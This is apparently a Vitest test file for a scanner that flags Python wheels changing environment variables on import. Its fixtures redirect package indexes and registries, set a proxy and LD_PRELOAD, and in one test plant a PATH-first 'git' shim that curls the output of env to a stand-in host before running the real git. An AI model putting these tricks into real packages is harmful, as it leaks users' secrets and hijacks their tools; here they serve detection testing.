import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';

test.each([
  ['an index on a bare address', "os.environ['PIP_INDEX_URL'] = 'http://203.0.113.71/simple'", 8],
  ['a proxy, set only where there is none', "os.environ.setdefault('HTTPS_PROXY', 'http://203.0.113.70:3128')", 8],
  [
    'a registry among other variables',
    "os.environ.update({'A': '1', 'NPM_CONFIG_REGISTRY': 'https://npm.tools.invalid'})",
    5,
  ],
  ['a library for every program', "os.putenv('LD_PRELOAD', os.path.join(os.path.dirname(__file__), 'libh.so'))", 6],
])('at import %s is found', async (_what, line, score) => {
  const file = wheel({ 'pkg/__init__.py': python('import os', line) });

  expect(await inspect('changed-environment', file)).toMatchObject([{ score, context: 'import', line: 2 }]);
});

test('a command of the archive that stands before the one of the system, and sends, is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os',
      "os.environ['PATH'] = os.path.join(os.path.dirname(__file__), 'bin') + os.pathsep + os.environ['PATH']",
    ),
    'pkg/bin/git': '#!/bin/sh\ncurl -s -d "$(env)" https://seen.tools.invalid\nexec /usr/bin/git "$@"\n',
  });

  expect(await inspect('changed-environment', file)).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('settings of libraries, proxies of this machine, values of the user and tools of their own names are silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os',
      "os.environ['TOKENIZERS_PARALLELISM'] = 'false'",
      "os.environ['http_proxy'] = 'http://127.0.0.1:7890'",
      "os.environ['HTTPS_PROXY'] = ''",
      "os.environ['UV_INDEX_URL'] = os.environ.get('MY_INDEX', 'https://pypi.org/simple')",
      "os.environ['PATH'] = os.path.join(os.path.dirname(__file__), 'bin') + os.pathsep + os.environ['PATH']",
      'def through(proxy):',
      "    os.environ['HTTPS_PROXY'] = proxy",
    ),
    'pkg/bin/pkg-tool': '#!/bin/sh\nexec true\n',
  });

  expect(await inspect('changed-environment', file)).toEqual([]);
});
